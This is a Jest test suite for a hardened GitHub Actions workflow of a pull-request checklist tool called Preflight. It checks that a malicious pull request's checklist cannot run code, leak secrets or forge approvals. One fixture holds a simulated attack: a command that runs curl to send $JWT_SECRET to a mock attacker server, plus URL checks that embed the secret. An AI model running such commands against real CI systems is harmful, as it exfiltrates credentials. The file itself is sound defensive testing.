/**
 * The README's hardened workflow, run step by step as the runner would, against the GitHub API double:
 * the job's `if:` decides whether a job starts, the checkout step's `ref` decides what the real git
 * repository holds, and the Preflight step gets exactly the inputs and environment its `with:` and `env:`
 * expand to (GitHub's expression library; the token step's outputs as actions/create-github-app-token
 * documents them: `token` and `app-slug`). Preflight runs in-process (`run({ core, env })`).
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'yaml';
import { decodeRecord } from '../../src/gate/record.js';
import { HARDENED_WORKFLOW } from '../../src/init/hardened-workflow.js';
import { makeWorld, NUMBER, type World } from '../gate-e2e/world.js';
import type { ActionRun } from '../helpers/run-action.js';
import { contexts, expand, truthy } from '../helpers/workflow-expressions.js';

interface Step {
  uses?: string;
  with?: Record<string, string | boolean>;
  env?: Record<string, string>;
}
interface Job {
  if?: string;
  environment?: string;
  steps: Step[];
}
const JOB = Object.values((parse(HARDENED_WORKFLOW) as { jobs: Record<string, Job> }).jobs)[0] as Job;

const SLUG = 'preflight-release';
const APP = `${SLUG}[bot]`;
const APP_TOKEN = 'ghs_installation-token-of-the-app';
const WORKFLOW_TOKEN = 'ghs_another-workflows-github-token';
const SECRET = `jwt-${Math.random().toString(36).slice(2)}-hardened-canary`;
const RECORD_KEY = `${Math.random().toString(36).slice(2)}-record-key-from-the-environment`;

let markers: string;
let attacker: Server;
let attackerUrl: string;
const received: string[] = [];
let world: World | undefined;

beforeAll(async () => {
  markers = mkdtempSync(path.join(os.tmpdir(), 'preflight-hardened-markers-'));
  attacker = createServer((req, res) => {
    received.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
    res.end('ok');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise<void>((resolve) => attacker.close(() => resolve()));
  rmSync(markers, { recursive: true, force: true });
});
afterEach(async () => {
  world?.double.assertNoViolations();
  await world?.stop();
  world = undefined;
});

/** The base's checklist: a file the head adds, a command (never run here), two boxes. */
const baseChecklist = () => `id: release
title: Release checklist
applies-to:
  head-branches: ['release/*']
sections:
  - id: repo
    title: Repository
    items:
      - id: readme
        title: README exists
        check: { kind: repo.files-exist, paths: [README.md] }
      - id: changelog
        title: Changelog written
        check: { kind: repo.files-exist, paths: [CHANGELOG.md] }
      - id: tests
        title: Tests pass
        required: false
        check: { kind: command, run: 'touch ${markers}/base-command-ran' }
  - id: signoff
    title: Sign-off
    items:
      - id: rollback
        title: Rollback plan ready
        approvers: { permission: maintain }
      - id: smoke
        title: Smoke-tested on staging
`;

/** What the pull request wrote instead: its own code, and the job's secret sent to its server. */
const headChecklist = () => `id: release
title: Release checklist
targets:
  leak: ${attackerUrl}/target?k=\${JWT_SECRET}
sections:
  - id: attack
    title: Attack
    items:
      - id: run-mine
        title: Run my code
        check: { kind: command, run: 'touch ${markers}/head-command-ran; curl -s "${attackerUrl}/cmd?k=$JWT_SECRET"' }
      - id: url
        title: Secret in a URL
        check: { kind: http.response, url: '${attackerUrl}/url?k=\${JWT_SECRET}' }
`;

async function hardenedWorld(): Promise<World> {
  world = await makeWorld({
    checklist: baseChecklist(),
    checklistAtHead: headChecklist(),
    prEvent: 'pull_request_target',
  });
  world.double.setTokenIdentity(APP_TOKEN, APP);
  return world;
}

/**
 * One event through the workflow: `skipped` when the job's `if:` is false; otherwise the checkout step's
 * ref is checked out (empty: the event's own commit, GITHUB_SHA, which for pull_request_target is the base
 * branch) and Preflight runs with the step's expanded inputs and environment.
 */
async function runWorkflow(
  w: World,
  eventName: string,
  payload: unknown,
  options: { dropCheckoutRef?: boolean } = {},
): Promise<ActionRun | 'skipped'> {
  const ctx = contexts({
    // pull_request_target, issue_comment, schedule: GITHUB_REF is the default (base) branch, GITHUB_SHA its tip.
    github: { event_name: eventName, event: payload, ref: 'refs/heads/main', sha: w.baseSha },
    vars: { PREFLIGHT_APP_ID: '424242', PREFLIGHT_APP_SLUG: SLUG, PRODUCTION_API_URL: attackerUrl },
    secrets: {
      PREFLIGHT_APP_PRIVATE_KEY: '-----BEGIN RSA PRIVATE KEY-----…',
      PREFLIGHT_RECORD_KEY: RECORD_KEY,
      JWT_SECRET: SECRET,
    },
    steps: { app: { outputs: { token: APP_TOKEN, 'app-slug': SLUG } } },
  });
  if (!truthy(JOB.if, ctx)) return 'skipped';
  // The environment admits the default branch only: these events run on it.
  expect(JOB.environment).toBe('preflight');
  const checkout = JOB.steps.find((s) => s.uses?.startsWith('actions/checkout@')) as Step;
  expect(checkout.with?.['persist-credentials']).toBe(false);
  const ref = options.dropCheckoutRef ? '' : expand(String(checkout.with?.ref ?? ''), ctx);
  await w.repo.git('checkout', '-q', '--detach', ref || w.baseSha);
  const step = JOB.steps.find((s) => s.uses?.startsWith('OWNER/preflight@')) as Step;
  const inputs = Object.fromEntries(
    Object.entries(step.with ?? {}).map(([k, v]) => [k, expand(String(v), ctx)]),
  );
  const env = Object.fromEntries(Object.entries(step.env ?? {}).map(([k, v]) => [k, expand(v, ctx)]));
  return w.run(eventName, payload, inputs, {
    ...env,
    GITHUB_SHA: w.baseSha,
    GITHUB_REF: 'refs/heads/main',
  });
}

function ran(run: ActionRun | 'skipped'): ActionRun {
  if (run === 'skipped') throw new Error('the job did not start');
  return run;
}

const appStatus = (w: World) => w.double.requiredStatus(w.headSha, 'preflight', APP);

async function tick(w: World, login: string, id: string): Promise<ActionRun | 'skipped'> {
  const comment = w.gateComments()[0];
  if (!comment) throw new Error('no checklist comment');
  const marker = `<!-- preflight:item ${id} -->`;
  const body = comment.body
    .split('\n')
    .map((l) => (l.includes(marker) ? l.replace(/^- \[ \]/, '- [x]') : l))
    .join('\n');
  const { from } = w.double.editCommentAs(comment.id, login, body);
  const event = w.double.issueCommentEvent('edited', {
    commentId: comment.id,
    sender: login,
    fromBody: from,
  });
  return runWorkflow(w, 'issue_comment', event);
}

function leaked(text: string): boolean {
  const forms = [
    SECRET,
    encodeURIComponent(SECRET),
    Buffer.from(SECRET).toString('base64'),
    Buffer.from(SECRET).toString('hex'),
    RECORD_KEY,
    APP_TOKEN,
  ];
  return forms.some((f) => text.includes(f));
}

describe('the hardened workflow, step by step', () => {
  test('pull_request_target: the base checklist on a read-only checkout of the head, written as the app, signed, nothing run', async () => {
    const w = await hardenedWorld();
    const run = ran(await runWorkflow(w, 'pull_request_target', w.double.pullRequestEvent('opened', NUMBER)));
    expect(run.code).toBe(0);
    // The checkout is the head the event names.
    expect((await w.repo.git('rev-parse', 'HEAD')).trim()).toBe(w.headSha);
    const comment = w.gateComments()[0];
    expect(comment).toBeDefined();
    expect(w.double.comments(NUMBER).find((c) => c.id === comment?.id)?.user.login).toBe(APP);
    const body = comment?.body ?? '';
    expect(body).toMatch(/<!-- preflight:record [A-Za-z0-9+/=]+ sig=[A-Za-z0-9_-]{43} -->/);
    // The base's checklist, evaluated on the head's files, and the results recorded for the head.
    expect(body).toMatch(/✅ \*\*Changelog written\*\*/); // CHANGELOG.md exists only at the head
    expect(body).toContain('Rollback plan ready');
    expect(body).not.toContain('Run my code');
    expect(decodeRecord(body)?.results?.headSha).toBe(w.headSha);
    const tests = run.report?.items?.find((i) => i.id === 'tests');
    expect(tests).toMatchObject({ status: 'error' });
    expect(JSON.stringify(tests)).toContain('refused: command checks never run in a privileged run');
    // Nothing executed, nothing sent to the pull request's server, no secret anywhere.
    expect(existsSync(path.join(markers, 'base-command-ran'))).toBe(false);
    expect(existsSync(path.join(markers, 'head-command-ran'))).toBe(false);
    expect(received).toEqual([]);
    for (const text of [body, run.summary, run.stdout, JSON.stringify(run.report)])
      expect(leaked(text)).toBe(false);
    // The status is the app's, and the workflow's GITHUB_TOKEN set none.
    const statuses = w.double.statuses(w.headSha) as Array<{ context: string; creator: { login: string } }>;
    expect(statuses.filter((s) => s.context === 'preflight').map((s) => s.creator.login)).toEqual([APP]);
    expect(appStatus(w)).toBe('pending');
    expect(run.summary).not.toContain('was last set by');

    // Ticks: each edit of the app's comment starts the job (its `if:`), on the default branch's checkout.
    expect(ran(await tick(w, 'maya', 'rollback')).code).toBe(0);
    expect(appStatus(w)).toBe('pending');
    expect(ran(await tick(w, 'alice', 'smoke')).code).toBe(0);
    expect(appStatus(w)).toBe('success');
    expect(w.gateComments()[0]?.body).toContain('#### Sign-off');
    expect(existsSync(path.join(markers, 'base-command-ran'))).toBe(false);
    expect(received).toEqual([]);
  });

  test("a comment another workflow posted with Preflight's marker starts no job", async () => {
    const w = await hardenedWorld();
    ran(await runWorkflow(w, 'pull_request_target', w.double.pullRequestEvent('opened', NUMBER)));
    const forged = w.double.addComment(NUMBER, {
      author: 'github-actions[bot]',
      body: '<!-- preflight:comment release -->\n- [x] Rollback plan ready',
    });
    const { from } = w.double.editCommentAs(forged.id, 'mallory', `${forged.body}\n- [x] Smoke-tested`);
    const event = w.double.issueCommentEvent('edited', {
      commentId: forged.id,
      sender: 'mallory',
      fromBody: from,
    });
    expect(await runWorkflow(w, 'issue_comment', event)).toBe('skipped');
    expect(appStatus(w)).toBe('pending');
  });

  test("without the checkout step's ref (the base is checked out), nothing is credited to the head: error, and why", async () => {
    const w = await hardenedWorld();
    const run = ran(
      await runWorkflow(w, 'pull_request_target', w.double.pullRequestEvent('opened', NUMBER), {
        dropCheckoutRef: true,
      }),
    );
    expect(run.code).toBe(0);
    expect((await w.repo.git('rev-parse', 'HEAD')).trim()).toBe(w.baseSha);
    expect(appStatus(w)).toBe('error');
    const body = w.gateComments()[0]?.body ?? '';
    // The base has no CHANGELOG.md: that result must not be credited to the head, nor shown as its result.
    expect(body).not.toMatch(/[✅❌] \*\*Changelog written/);
    expect(body).toContain('⏳ **Changelog written** · waiting');
    expect(body).toContain('**⚠️ Cannot decide**');
    expect(decodeRecord(body)?.results).toBeUndefined();
    expect(run.summary).toContain(
      `this run's checkout ${w.baseSha.slice(0, 7)} is the base branch, not the pull request's head ${w.headSha.slice(0, 7)}`,
    );
    expect(run.summary).toContain(
      'On pull\\_request\\_target, check out the head read-only: actions/checkout with ref set to github.event.pull\\_request.head.sha and persist-credentials: false',
    );
    // Ticks cannot turn it green either: no automated results for the head.
    await tick(w, 'maya', 'rollback');
    await tick(w, 'alice', 'smoke');
    expect(appStatus(w)).not.toBe('success');
  });

  test('a preflight status another identity posted on the head is named in the comment and the summary', async () => {
    const w = await hardenedWorld();
    ran(await runWorkflow(w, 'pull_request_target', w.double.pullRequestEvent('opened', NUMBER)));
    w.double.setTokenIdentity(WORKFLOW_TOKEN, 'github-actions[bot]');
    const posted = await fetch(`${w.double.url}/repos/acme/shop/statuses/${w.headSha}`, {
      method: 'POST',
      headers: { authorization: `token ${WORKFLOW_TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ state: 'success', context: 'preflight', description: 'all done' }),
    });
    expect(posted.status).toBe(201);
    const run = ran(await runWorkflow(w, 'pull_request_target', w.double.pullRequestEvent('edited', NUMBER)));
    const warning = `The preflight status on ${w.headSha.slice(0, 7)} was last set by github-actions (success), not by Preflight (${SLUG}\\[bot\\])`;
    expect(run.summary).toContain(warning);
    const body = w.gateComments()[0]?.body ?? '';
    expect(body).toContain(`> [!WARNING]\n> ${warning}`);
    expect(
      run.annotations.some((a) => a.startsWith('::warning') && a.includes('was last set by github-actions')),
    ).toBe(true);
    // The app's own status is the latest again; the ruleset pinned to the app never counted the other one.
    expect(appStatus(w)).toBe('pending');
    // A tick run reads the head's status too: the app's own now, so no warning.
    const after = ran(await tick(w, 'maya', 'rollback'));
    expect(after.summary).not.toContain('was last set by');
  });
});
